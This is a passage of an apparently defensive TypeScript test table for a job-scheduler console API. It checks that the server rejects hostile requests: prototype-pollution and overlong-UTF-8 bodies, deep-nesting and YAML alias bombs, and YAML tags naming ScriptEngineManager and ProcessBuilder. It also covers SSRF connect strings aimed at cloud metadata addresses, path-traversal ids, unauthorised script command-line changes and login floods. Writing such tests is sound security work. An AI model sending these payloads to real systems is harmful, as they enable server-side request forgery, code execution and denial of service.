  { id: 'JSON string', who: 'operator', method: 'POST', path: `${J2}/enable`, body: '"x"', expect: [400, 'BAD_REQUEST'] },
  { id: 'extra key on an operation', who: 'operator', method: 'POST', path: `${J2}/disable`, body: { force: true }, expect: [400, 'BAD_REQUEST'] },
  { id: '__proto__ key', who: 'operator', method: 'POST', path: `${J2}/shutdown`, body: '{"__proto__":{"polluted":true}}', expect: [400, 'BAD_REQUEST'] },
  { id: 'bad UTF-8 bytes', who: 'operator', method: 'POST', path: `${J2}/disable`, body: Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]), expect: [400, 'BAD_REQUEST'] },
  { id: 'overlong UTF-8 encoding of "/"', who: 'operator', method: 'POST', path: `${API}/servers/${OFFLINE_IP}/disable`, body: Buffer.from([0x7b, 0x22, 0xc0, 0xaf, 0x22, 0x3a, 0x31, 0x7d]), expect: [400, 'BAD_REQUEST'] },
  { id: '300 KB (Content-Length)', who: 'operator', method: 'POST', path: `${J2}/disable`, body: KB300, expect: [413, 'PAYLOAD_TOO_LARGE'] },
  { id: '300 KB (chunked)', who: 'operator', method: 'POST', path: `${J2}/items/0/disable`, body: KB300, chunked: true, expect: [413, 'PAYLOAD_TOO_LARGE'] },
  { id: '11 MB', who: 'operator', method: 'PUT', path: `${J2}/config`, body: MB11, expect: [413, 'PAYLOAD_TOO_LARGE'] },
  { id: '11 MB chunked, admin route', who: 'admin', method: 'POST', path: '/api/registries', body: MB11, chunked: true, expect: [413, 'PAYLOAD_TOO_LARGE'] },
  { id: 'JSON nested 100,000 deep', who: 'operator', method: 'POST', path: `${J2}/disable`, body: DEEP_JSON, expect: [400, 'BAD_REQUEST'] },
  { id: 'config nested 20,000 deep', who: 'operator', method: 'PUT', path: `${J2}/config`, body: DEEP_CONFIG_JSON, expect: [400, 'BAD_REQUEST'] },
  { id: 'users: JSON nested deep', who: 'admin', method: 'POST', path: '/api/users', body: DEEP_JSON, expect: [400, 'BAD_REQUEST'] },
  { id: 'config: not JSON', who: 'operator', method: 'PUT', path: `${J2}/config`, body: 'configRaw=x', expect: [400, 'BAD_REQUEST'] },
  { id: 'config: extra key', who: 'operator', method: 'PUT', path: `${J2}/config`, body: (v: Record<string, number>) => ({ config: { description: 'x' }, version: v[JOBS.v2], force: true }), expect: [400, 'BAD_REQUEST'] },
  { id: 'config: both config and configRaw', who: 'operator', method: 'PUT', path: `${J2}/config`, body: (v: Record<string, number>) => ({ config: {}, configRaw: '{}', version: v[JOBS.v2] }), expect: [400, 'BAD_REQUEST'] },
  { id: 'config: neither config nor configRaw', who: 'operator', method: 'PUT', path: `${J2}/config`, body: (v: Record<string, number>) => ({ version: v[JOBS.v2] }), expect: [400, 'BAD_REQUEST'] },
  { id: 'config: config is an array', who: 'operator', method: 'PUT', path: `${J2}/config`, body: (v: Record<string, number>) => ({ config: [], version: v[JOBS.v2] }), expect: [400, 'BAD_REQUEST'] },
  { id: 'config: config is a string', who: 'operator', method: 'PUT', path: `${J2}/config`, body: (v: Record<string, number>) => ({ config: '{"cron":"x"}', version: v[JOBS.v2] }), expect: [400, 'BAD_REQUEST'] },
  { id: 'config: configRaw is a number', who: 'operator', method: 'PUT', path: `${J3}/config`, body: (v: Record<string, number>) => ({ configRaw: 5, version: v[JOBS.v3] }), expect: [400, 'BAD_REQUEST'] },
  { id: 'config: empty body', who: 'operator', method: 'PUT', path: `${J2}/config`, expect: [400, 'BAD_REQUEST'] },
  { id: 'users: bad UTF-8 bytes', who: 'admin', method: 'POST', path: '/api/users', body: Buffer.from([0x7b, 0x22, 0x6e, 0xe9, 0x22, 0x3a, 0x31, 0x7d]), expect: [400, 'BAD_REQUEST'] },
  { id: 'users: 300 KB', who: 'admin', method: 'PATCH', path: '/api/users/e2e-viewer', body: KB300, expect: [413, 'PAYLOAD_TOO_LARGE'] },
  { id: 'registries: not JSON', who: 'admin', method: 'POST', path: '/api/registries', body: '<registry/>', expect: [400, 'BAD_REQUEST'] },
  { id: 'registries: JSON nested deep', who: 'admin', method: 'PUT', path: REG, body: DEEP_JSON, expect: [400, 'BAD_REQUEST'] },
  { id: 'connection test: 300 KB', who: 'admin', method: 'POST', path: '/api/registries/test', body: KB300, expect: [413, 'PAYLOAD_TOO_LARGE'] },
  { id: 'login: not JSON', who: 'anonymous', method: 'POST', path: '/api/auth/login', body: 'user=e2e-admin&password=x', expect: [400, 'BAD_REQUEST'] },
  { id: 'login: bad UTF-8 bytes', who: 'anonymous', method: 'POST', path: '/api/auth/login', body: Buffer.from([0x7b, 0x22, 0x75, 0xff, 0x22, 0x3a, 0x31, 0x7d]), expect: [400, 'BAD_REQUEST'] },
  { id: 'login: 300 KB', who: 'anonymous', method: 'POST', path: '/api/auth/login', body: KB300, expect: [413, 'PAYLOAD_TOO_LARGE'] },
  { id: 'login: JSON nested deep', who: 'anonymous', method: 'POST', path: '/api/auth/login', body: DEEP_JSON, expect: [400, 'BAD_REQUEST'] },
  { id: 'login: empty user', who: 'anonymous', method: 'POST', path: '/api/auth/login', body: { user: '', password: 'x' }, expect: [400, 'BAD_REQUEST'] },
  { id: 'login: 65-character user', who: 'anonymous', method: 'POST', path: '/api/auth/login', body: { user: 'u'.repeat(65), password: 'x' }, expect: [400, 'BAD_REQUEST'] },
  { id: 'login: 300-character password', who: 'anonymous', method: 'POST', path: '/api/auth/login', body: { user: ghost('longpw'), password: 'p'.repeat(300) }, expect: [400, 'BAD_REQUEST'] },
  { id: 'login: password a number', who: 'anonymous', method: 'POST', path: '/api/auth/login', body: { user: ghost('numpw'), password: 12345678 }, expect: [400, 'BAD_REQUEST'] },
];

// ---- 5. configs -----------------------------------------------------------------------------------------

const e2 = (id: string, config: Record<string, unknown>): Row => ({
  id: `2.x: ${id}`,
  who: 'operator',
  method: 'PUT',
  path: `${J2}/config`,
  body: edit(JOBS.v2, config),
  expect: [400, 'INVALID_CONFIG'],
});
const r2 = (id: string, text: string): Row => ({ id: `2.x raw: ${id}`, who: 'operator', method: 'PUT', path: `${J2}/config`, body: raw(JOBS.v2, text), expect: [400, 'INVALID_CONFIG'] });
const e3 = (id: string, config: Record<string, unknown>): Row => ({ id: `3.x: ${id}`, who: 'operator', method: 'PUT', path: `${J3}/config`, body: edit(JOBS.v3, config), expect: [400, 'INVALID_CONFIG'] });
const r3 = (id: string, text: string): Row => ({ id: `3.x raw: ${id}`, who: 'operator', method: 'PUT', path: `${J3}/config`, body: raw(JOBS.v3, text), expect: [400, 'INVALID_CONFIG'] });
const json2 = (change: Record<string, unknown>): string => JSON.stringify({ ...CONFIG_2X, ...change });

export const configRows: readonly Row[] = [
  e2('shardingTotalCount 0', { shardingTotalCount: 0 }),
  e2('shardingTotalCount -1', { shardingTotalCount: -1 }),
  e2('shardingTotalCount 10,001', { shardingTotalCount: 10_001 }),
  e2('shardingTotalCount 10^9', { shardingTotalCount: 1_000_000_000 }),
  e2('shardingTotalCount 2.5', { shardingTotalCount: 2.5 }),
  e2('shardingTotalCount a string', { shardingTotalCount: '3' }),
  e2('shardingTotalCount removed', { shardingTotalCount: undefined }),
  e2('cron not a cron', { cron: 'every day at noon' }),
  e2('cron hour 25', { cron: '0 0 25 * * ?' }),
  e2('cron empty', { cron: '' }),
  e2('cron a number', { cron: 7 }),
  e2('failover a string', { failover: 'yes' }),
  e2('misfire a number', { misfire: 1 }),
  e2('monitorExecution a string', { monitorExecution: 'true' }),
  e2('jobType unknown', { jobType: 'SHELL' }),
  e2('sharding strategy unknown class', { jobShardingStrategyClass: 'com.example.EvilStrategy' }),
  e2('item parameter not below shardingTotalCount', { shardingItemParameters: '0=a,7=b' }),
  e2('item parameter negative', { shardingItemParameters: '-1=a' }),
  e2('maxTimeDiffSeconds 1.5', { maxTimeDiffSeconds: 1.5 }),
  e2('reconcileIntervalMinutes a string', { reconcileIntervalMinutes: 'ten' }),
  e2('monitorPort a string', { monitorPort: 'x' }),
  e2('description a number', { description: 12 }),
  e2('jobProperties a string', { jobProperties: 'x' }),
  e2('jobName changed', { jobName: 'another-job' }),
  e2('timeZone: a 3.x key (wrong flavour)', { timeZone: 'UTC' }),
  e2('props: a 3.x key (wrong flavour)', { props: { a: 'b' } }),
  e2('unknown key', { evilKey: true }),

  r2('YAML text (wrong flavour)', CONFIG_3X.replace(`jobName: ${JOBS.v3}`, `jobName: ${JOBS.v2}`)),
  r2('not JSON', '{"jobName":'),
  r2('a JSON array', '[1]'),
  r2('empty', ''),
  r2('jobName changed', json2({ jobName: 'another-job' })),
  r2('shardingTotalCount 10^9', json2({ shardingTotalCount: 1_000_000_000 })),
  r2('duplicate key hides a huge count', json2({}).replace('"shardingTotalCount":3', '"shardingTotalCount":3,"shardingTotalCount":1000000000')),
  { id: '2.x: stale version', who: 'operator', method: 'PUT', path: `${J2}/config`, body: (v: Record<string, number>) => ({ config: { description: 'stale' }, version: (v[JOBS.v2] ?? 0) + 7 }), expect: [409, 'STALE_VERSION'] },
  { id: '2.x: version -1', who: 'operator', method: 'PUT', path: `${J2}/config`, body: { config: { description: 'x' }, version: -1 }, expect: [400, 'BAD_REQUEST'] },
  { id: '2.x: version a string', who: 'operator', method: 'PUT', path: `${J2}/config`, body: { config: { description: 'x' }, version: '0' }, expect: [400, 'BAD_REQUEST'] },
  { id: '2.x: version 0.5', who: 'operator', method: 'PUT', path: `${J2}/config`, body: { config: { description: 'x' }, version: 0.5 }, expect: [400, 'BAD_REQUEST'] },
  { id: '2.x: version null', who: 'operator', method: 'PUT', path: `${J2}/config`, body: { config: { description: 'x' }, version: null }, expect: [400, 'BAD_REQUEST'] },
  { id: '2.x: version 1e300', who: 'operator', method: 'PUT', path: `${J2}/config`, body: '{"config":{"description":"x"},"version":1e300}', expect: [400, 'BAD_REQUEST'] },
  r3('foreign tag: ScriptEngineManager in props', YAML_SCRIPT_ENGINE),
  r3('foreign tag: ProcessBuilder as jobErrorHandlerType', YAML_PROCESS_BUILDER),
  r3('foreign tag on a scalar', CONFIG_3X.replace('failover: false\n', 'failover: false\njobErrorHandlerType: !!com.example.EvilHandler LOG\n')),
  r3('foreign tag at the root', YAML_ROOT_TAG),
  r3('local tag', YAML_LOCAL_TAG),
  r3('verbatim foreign tag', YAML_VERBATIM_TAG),
  r3('%TAG directive aliasing a Java package', YAML_TAG_DIRECTIVE),
  r3('alias bomb', YAML_ALIAS_BOMB),
  r3('two documents', YAML_TWO_DOCUMENTS),
  r3('flow nesting 20,000 deep', YAML_DEEP),
  r3('JSON text (wrong flavour)', JSON.stringify({ jobName: JOBS.v3, cron: '0 0 2 * * ?', shardingTotalCount: 2 })),
  r3('not YAML', 'cron: [unclosed\n'),
  r3('timeZone unknown', v3('timeZone: Europe/Paris', 'timeZone: Mars/Olympus_Mons')),
  r3('shardingTotalCount 10,001', v3('shardingTotalCount: 2', 'shardingTotalCount: 10001')),
  r3('shardingTotalCount 10^9', v3('shardingTotalCount: 2', 'shardingTotalCount: 1000000000')),
  r3('jobName changed', v3(`jobName: ${JOBS.v3}`, 'jobName: another-job')),
  r3('unknown key', v3('misfire: true\n', 'misfire: true\nevilKey: 1\n')),
  r3('sharding strategy unknown', v3('jobParameter', 'jobShardingStrategyType: com.example.Evil\njobParameter')),
  r3('staticSharding a string', v3('staticSharding: false', 'staticSharding: maybe')),
  r3('cron not a cron', v3('cron: 0 0 2 * * ?', 'cron: sometimes')),
  e3('timeZone unknown', { timeZone: 'Not/AZone' }),
  e3('props a string', { props: 'region=eu' }),
  e3('jobListenerTypes a string', { jobListenerTypes: 'com.example.Listener' }),
  e3('shardingTotalCount 10,001', { shardingTotalCount: 10_001 }),
  e3('version-specific key added', { jobExecutorServiceHandlerType: 'CPU' }),
  e3('2.x key (wrong flavour)', { scriptCommandLine: EVIL_COMMAND }),
  { id: '3.x: stale version', who: 'operator', method: 'PUT', path: `${J3}/config`, body: (v: Record<string, number>) => ({ configRaw: CONFIG_3X, version: (v[JOBS.v3] ?? 0) + 1 }), expect: [409, 'STALE_VERSION'] },
  { id: 'SCRIPT 2.x: operator changes the command line', who: 'operator', method: 'PUT', path: `${S2}/config`, body: edit(JOBS.script2, { scriptCommandLine: EVIL_COMMAND }), expect: [403, 'ADMIN_REQUIRED'] },
  { id: 'SCRIPT 2.x: operator removes the command line', who: 'operator', method: 'PUT', path: `${S2}/config`, body: edit(JOBS.script2, { scriptCommandLine: undefined }), expect: [403, 'ADMIN_REQUIRED'] },
  { id: 'SCRIPT 2.x: operator changes it in the raw text', who: 'operator', method: 'PUT', path: `${S2}/config`, body: raw(JOBS.script2, JSON.stringify({ ...CONFIG_SCRIPT_2X, scriptCommandLine: EVIL_COMMAND })), expect: [403, 'ADMIN_REQUIRED'] },
  { id: 'SCRIPT 2.x: operator session changes it', who: 'operator:cookie', method: 'PUT', path: `${S2}/config`, body: edit(JOBS.script2, { scriptCommandLine: EVIL_COMMAND }), expect: [403, 'ADMIN_REQUIRED'] },
  { id: 'SCRIPT 3.x: operator changes props script.command.line', who: 'operator', method: 'PUT', path: `${S3}/config`, body: edit(JOBS.script3, { props: { 'script.command.line': EVIL_COMMAND } }), expect: [403, 'ADMIN_REQUIRED'] },
  { id: 'SCRIPT 3.x: operator changes it in the raw text', who: 'operator', method: 'PUT', path: `${S3}/config`, body: raw(JOBS.script3, CONFIG_SCRIPT_3X.replace('/opt/jobs/nightly.sh', EVIL_COMMAND)), expect: [403, 'ADMIN_REQUIRED'] },
  { id: 'SIMPLE 2.x: operator turns it into a SCRIPT job', who: 'operator', method: 'PUT', path: `${J2}/config`, body: edit(JOBS.v2, { jobType: 'SCRIPT', scriptCommandLine: EVIL_COMMAND }), expect: [403, 'ADMIN_REQUIRED'] },
  { id: 'SCRIPT 3.x: admin with a foreign tag', who: 'admin', method: 'PUT', path: `${S3}/config`, body: raw(JOBS.script3, withProp(CONFIG_SCRIPT_3X, `x: ${SCRIPT_ENGINE}`)), expect: [400, 'INVALID_CONFIG'] },
  { id: 'SCRIPT 2.x: admin at a stale version', who: 'admin', method: 'PUT', path: `${S2}/config`, body: (v: Record<string, number>) => ({ config: { scriptCommandLine: '/opt/jobs/other.sh' }, version: (v[JOBS.script2] ?? 0) + 1 }), expect: [409, 'STALE_VERSION'] },
];

// ---- 6. registries and users ----------------------------------------------------------------------------

const SSRF = '169.254.169.254:80:x.zk.corp:2181';
const addRegistry = (id: string, body: Record<string, unknown>, expect: Row['expect']): Row => ({
  id: `add registry: ${id}`,
  who: 'admin',
  method: 'POST',
  path: '/api/registries',
  body: { id: `bad-${RUN}`, namespace: 'bad-input-ns', connectString: '127.0.0.1:2181', ...body },
  expect,
});
const addUser = (id: string, body: Record<string, unknown>, expect: Row['expect'] = [400, 'BAD_REQUEST']): Row => ({
  id: `add user: ${id}`,
  who: 'admin',
  method: 'POST',
  path: '/api/users',
  body: { name: `made-${RUN}`, role: 'viewer', password: 'long-enough-1', ...body },
  expect,
});

export const adminRows: readonly Row[] = [
  addRegistry('SSRF connect string (the client dials the first host:port)', { connectString: SSRF }, [400, 'INVALID_CONNECT_STRING']),
  addRegistry('port 99999', { connectString: '127.0.0.1:99999' }, [400, 'INVALID_CONNECT_STRING']),
  addRegistry('port 0', { connectString: '127.0.0.1:0' }, [400, 'INVALID_CONNECT_STRING']),
  addRegistry('host outside the allow-list', { connectString: '127.0.0.1:2181,169.254.169.254:80' }, [400, 'ZK_HOST_NOT_ALLOWED']),
  addRegistry('DNS name outside the allow-list', { connectString: 'metadata.google.internal:80' }, [400, 'ZK_HOST_NOT_ALLOWED']),
  addRegistry('short IPv4 form of loopback', { connectString: '127.1:2181' }, [400, 'INVALID_CONNECT_STRING']),
  addRegistry('decimal IPv4', { connectString: '2130706433:2181' }, [400, 'INVALID_CONNECT_STRING']),
  addRegistry('IPv6 literal', { connectString: '[::1]:2181' }, [400, 'INVALID_CONNECT_STRING']),
  addRegistry('user part', { connectString: 'evil@127.0.0.1:2181' }, [400, 'INVALID_CONNECT_STRING']),
  addRegistry('hex port', { connectString: '127.0.0.1:0x50' }, [400, 'INVALID_CONNECT_STRING']),
  addRegistry('chroot into /zookeeper', { connectString: '127.0.0.1:2181/zookeeper' }, [400, 'INVALID_CONNECT_STRING']),
  addRegistry('connect string a number', { connectString: 2181 }, [400, 'BAD_REQUEST']),
  addRegistry('no connect string', { connectString: undefined }, [400, 'BAD_REQUEST']),
  addRegistry('id ..', { id: '..' }, [400, 'BAD_REQUEST']),
  addRegistry('id with /', { id: 'a/b' }, [400, 'BAD_REQUEST']),
  addRegistry('id 65 characters', { id: 'r'.repeat(65) }, [400, 'BAD_REQUEST']),
  addRegistry('reserved id test', { id: 'test' }, [400, 'BAD_REQUEST']),
  addRegistry('reserved id namespaces', { id: 'namespaces' }, [400, 'BAD_REQUEST']),
  addRegistry('id taken: default', { id: 'default' }, [409, 'REGISTRY_EXISTS']),
  addRegistry(`id taken: ${EXTRA_REGISTRY}`, { id: EXTRA_REGISTRY }, [409, 'REGISTRY_EXISTS']),
  addRegistry('extra key (id taken, so nothing is added either way)', { id: 'default', evil: true }, [400, 'BAD_REQUEST']),
  addRegistry('namespace zookeeper', { namespace: 'zookeeper' }, [400, 'BAD_REQUEST']),
  addRegistry("namespace the console's own", { namespace: 'shardkeeper-console' }, [400, 'BAD_REQUEST']),
  addRegistry('namespace ../', { namespace: '../x' }, [400, 'BAD_REQUEST']),
  addRegistry('namespace empty', { namespace: '' }, [400, 'BAD_REQUEST']),
  addRegistry('digest without password', { digest: 'nocolon' }, [400, 'BAD_REQUEST']),
  { id: 'edit registry: SSRF connect string', who: 'admin', method: 'PUT', path: REG, body: { connectString: SSRF }, expect: [400, 'INVALID_CONNECT_STRING'] },
  { id: 'edit registry: port 99999', who: 'admin', method: 'PUT', path: REG, body: { connectString: '127.0.0.1:99999' }, expect: [400, 'INVALID_CONNECT_STRING'] },
  { id: 'edit registry: host outside the allow-list', who: 'admin', method: 'PUT', path: REG, body: { connectString: '10.1.2.3:2181' }, expect: [400, 'ZK_HOST_NOT_ALLOWED'] },
  { id: 'edit registry: id is not editable', who: 'admin', method: 'PUT', path: REG, body: { id: 'other' }, expect: [400, 'BAD_REQUEST'] },
  { id: 'edit registry: namespace zookeeper', who: 'admin', method: 'PUT', path: REG, body: { namespace: 'zookeeper' }, expect: [400, 'BAD_REQUEST'] },
  { id: 'edit registry: the environment one', who: 'admin', method: 'PUT', path: '/api/registries/default', body: { name: 'renamed' }, expect: [400, 'BAD_REQUEST'] },
  { id: 'edit registry: unknown', who: 'admin', method: 'PUT', path: `/api/registries/nope-${RUN}`, body: { name: 'renamed' }, expect: [404, 'NOT_FOUND'] },
  { id: 'remove registry: the environment one', who: 'admin', method: 'DELETE', path: '/api/registries/default', expect: [400, 'BAD_REQUEST'] },
  { id: 'remove registry: unknown', who: 'admin', method: 'DELETE', path: `/api/registries/nope-${RUN}`, expect: [404, 'NOT_FOUND'] },
  { id: 'remove registry: encoded ../', who: 'admin', method: 'DELETE', path: '/api/registries/..%2Fdefault', expect: [400, 'BAD_REQUEST'] },
  { id: 'connection test: SSRF connect string', who: 'admin', method: 'POST', path: '/api/registries/test', body: { connectString: SSRF, namespace: 'x' }, expect: [400, 'INVALID_CONNECT_STRING'] },
  { id: 'connection test: port 99999', who: 'admin', method: 'POST', path: '/api/registries/test', body: { connectString: '127.0.0.1:99999', namespace: 'x' }, expect: [400, 'INVALID_CONNECT_STRING'] },
  { id: 'connection test: host outside the allow-list', who: 'admin', method: 'POST', path: '/api/registries/test', body: { connectString: '10.0.0.1:2181', namespace: 'x' }, expect: [400, 'ZK_HOST_NOT_ALLOWED'] },
  { id: 'namespace browser: SSRF connect string', who: 'admin', method: 'GET', path: `/api/registries/namespaces?connectString=${encodeURIComponent(SSRF)}`, expect: [400, 'INVALID_CONNECT_STRING'] },
  { id: 'namespace browser: port 99999', who: 'admin', method: 'GET', path: '/api/registries/namespaces?connectString=127.0.0.1%3A99999', expect: [400, 'INVALID_CONNECT_STRING'] },
  { id: 'namespace browser: no connect string', who: 'admin', method: 'GET', path: '/api/registries/namespaces', expect: [400, 'BAD_REQUEST'] },
  addUser('name ../', { name: '../evil' }),
  addUser('name with :', { name: 'a:b' }),
  addUser('name 65 characters', { name: 'u'.repeat(65) }),
  addUser('name empty', { name: '' }),
  addUser('name with NUL', { name: 'evil\u0000' }),
  addUser('password 7 characters', { password: 'short12' }),
  addUser('password 300 characters', { password: 'p'.repeat(300) }),
  addUser('role root', { role: 'root' }),
  addUser('no role', { role: undefined }),
  addUser('extra key (name taken, so nothing is added either way)', { name: 'e2e-viewer', isAdmin: true }),
  addUser('name taken', { name: 'e2e-viewer' }, [409, 'USER_EXISTS']),
  { id: 'demote the last admin', who: 'admin', method: 'PATCH', path: '/api/users/e2e-admin', body: { role: 'operator' }, expect: [409, 'LAST_ADMIN'] },
  { id: 'remove the last admin', who: 'admin', method: 'DELETE', path: '/api/users/e2e-admin', expect: [409, 'LAST_ADMIN'] },
  { id: 'remove the last admin (own session)', who: 'admin:cookie', method: 'DELETE', path: '/api/users/e2e-admin', expect: [409, 'LAST_ADMIN'] },
  { id: 'change user: nothing to change', who: 'admin', method: 'PATCH', path: '/api/users/e2e-viewer', body: {}, expect: [400, 'BAD_REQUEST'] },
  { id: 'change user: role unknown', who: 'admin', method: 'PATCH', path: '/api/users/e2e-viewer', body: { role: 'superuser' }, expect: [400, 'BAD_REQUEST'] },
  { id: 'change user: short password', who: 'admin', method: 'PATCH', path: '/api/users/e2e-viewer', body: { password: 'short' }, expect: [400, 'BAD_REQUEST'] },
  { id: 'change user: rename (extra key)', who: 'admin', method: 'PATCH', path: '/api/users/e2e-viewer', body: { name: 'e2e-admin2' }, expect: [400, 'BAD_REQUEST'] },
  { id: 'change user: unknown', who: 'admin', method: 'PATCH', path: `/api/users/nobody-${RUN}`, body: { role: 'viewer' }, expect: [404, 'NOT_FOUND'] },
  { id: 'remove user: unknown', who: 'admin', method: 'DELETE', path: `/api/users/nobody-${RUN}`, expect: [404, 'NOT_FOUND'] },
];

// ---- 7. login floods (throwaway user names: the suite's real users are never locked out) ---------------

const wrongLogin = (user: string) => ({ user, password: 'wrong-password' });
export const floodRows: readonly Row[] = [
  { id: 'login flood, one by one', who: 'anonymous', method: 'POST', path: '/api/auth/login', body: wrongLogin(ghost('seq')), flood: { times: 11 }, expect: [429, 'RATE_LIMITED'] },
  { id: 'login flood, all at once', who: 'anonymous', method: 'POST', path: '/api/auth/login', body: wrongLogin(ghost('par')), flood: { times: 12, concurrent: true, rounds: 2 }, expect: [429, 'RATE_LIMITED'] },
  { id: 'login flood, a new X-Forwarded-For each time', who: 'anonymous', method: 'POST', path: '/api/auth/login', body: wrongLogin(ghost('xff')), flood: { times: 11, vary: 'forwarded-for' }, expect: [429, 'RATE_LIMITED'] },
  { id: 'Basic flood', who: 'anonymous', method: 'GET', path: '/api/registries', headers: { Authorization: basic(ghost('basic'), 'wrong-password') }, flood: { times: 11 }, expect: [429, 'RATE_LIMITED'] },
  { id: 'Basic flood, all at once, on a write', who: 'anonymous', method: 'POST', path: `${J2}/disable`, headers: { Authorization: basic(ghost('basic-par'), 'wrong-password') }, flood: { times: 12, concurrent: true, rounds: 2 }, expect: [429, 'RATE_LIMITED'] },
];

export const GROUPS = [
  { title: 'credentials and roles: 401 and 403 before anything is read', rows: credentialRows },
  { title: 'CSRF: cookie writes need the token and this origin', rows: csrfRows },
  { title: 'names, items, ids, tree paths and queries', rows: nameRows },
  { title: 'bodies: not JSON, bad UTF-8, extra keys, huge, deep', rows: bodyRows },
  { title: 'configs: ranges, types, flavour, tags, alias bombs, documents, versions, command lines', rows: configRows },
  { title: 'registries and users', rows: adminRows },
  { title: 'login floods', rows: floodRows },
] as const;
